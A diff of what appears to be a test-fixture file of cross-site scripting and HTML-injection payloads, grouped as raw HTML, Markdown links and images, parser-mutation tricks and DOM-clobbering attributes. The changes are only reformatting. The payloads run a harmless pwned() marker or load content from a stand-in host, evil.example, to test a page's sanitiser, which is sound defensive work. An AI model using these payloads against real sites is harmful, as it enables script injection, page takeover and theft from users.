@@ -1,7 +1,8 @@
-"""Answers that try to run something, load something from outside, or take over the page. Each calls pwned() if it succeeds.
+"""Answers that try to run something, load something from outside, or take over the page. Each calls pwned() if it
+succeeds.
 
-Collected by kind: HTML in Markdown, Markdown's own links and images, parsers that disagree (mutation), and attributes that reach
-into the page. Written for this page; the kinds are those of DOMPurify's and OWASP's lists.
+Collected by kind: HTML in Markdown, Markdown's own links and images, parsers that disagree (mutation), and attributes
+that reach into the page. Written for this page; the kinds are those of DOMPurify's and OWASP's lists.
 """
 
 HTML = [
@@ -32,11 +33,11 @@ HTML = [
     "<video poster=https://evil.example/poster.png></video>",
     "<marquee onstart=pwned('marquee')>x</marquee>",
     "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
-    "<p style=\"background: url(https://evil.example/bg.png)\">styled</p>",
-    "<div style=\"position: fixed; inset: 0; z-index: 99999\">cover</div>",
+    '<p style="background: url(https://evil.example/bg.png)">styled</p>',
+    '<div style="position: fixed; inset: 0; z-index: 99999">cover</div>',
     "<link rel=stylesheet href=https://evil.example/x.css>",
     "<link rel=prefetch href=https://evil.example/>",
-    "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">",
+    '<meta http-equiv=refresh content="0; url=https://evil.example/">',
     "<base href=https://evil.example/>",
     "<form action=https://evil.example/><input type=submit value=go></form>",
     "<form><button formaction=\"javascript:pwned('formaction')\">x</button></form>",
@@ -50,7 +51,7 @@ HTML = [
     "<custom-element onclick=pwned()>x</custom-element>",
     "<!--><img src=x onerror=pwned('comment')>-->",
     "<![CDATA[<img src=x onerror=pwned('cdata')>]]>",
-    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">pwned('xml')</x:script>",
+    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned(\'xml\')</x:script>',
     "</div></article></li></ol><script>pwned('closing')</script>",
     "<<script>script>pwned('nested')</script>",
     "<plaintext>the rest of the page is gone",
@@ -75,7 +76,7 @@ MARKDOWN = [
     "![x](javascript:pwned('image'))",
     "![x](data:image/svg+xml,<svg/onload=pwned()>)",
     "![x](x\"onerror=\"pwned('title'))",
-    "![\"onerror=pwned('alt') x=\"](https://evil.example/a.png \"t\\\" onload=pwned('t')\")",
+    '!["onerror=pwned(\'alt\') x="](https://evil.example/a.png "t\\" onload=pwned(\'t\')")',
     "[a](https://evil.example/\"onmouseover=\"pwned('attr'))",
     "[![nested](https://evil.example/n.png)](javascript:pwned('nested'))",
     "| a |\n| - |\n| <img src=x onerror=pwned('cell')> |",
@@ -110,12 +111,12 @@ MUTATION = [
     "<svg><title><p><img src=x onerror=pwned('svg title')></title></svg>",
     "<table><caption><svg><title><a id=\"</table><img src=x onerror=pwned('table')>\">",
     "<select><template><img src=x onerror=pwned('select')></template></select>",
-    "<svg><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:pwned('foreign')\"></iframe></foreignObject></svg>",
+    '<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:pwned(\'foreign\')"></iframe></foreignObject></svg>',
     "<math href=\"javascript:pwned('math')\">click</math>",
-    "<math><maction actiontype=\"statusline#https://evil.example\" xlink:href=\"javascript:pwned('maction')\">click</maction></math>",
+    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:pwned(\'maction\')">click</maction></math>',
     "<img src=x name=body><img src=x name=createElement><form name=getElementById><input name=attributes>",
     "<form id=announcer><input name=textContent></form>",
-    "<a id=toasts></a><a id=toasts name=append href=\"cid:pwned\"></a>",
+    '<a id=toasts></a><a id=toasts name=append href="cid:pwned"></a>',
     "<div>" * 600 + "<img src=x onerror=pwned('deep')>" + "</div>" * 600,
 ]
 
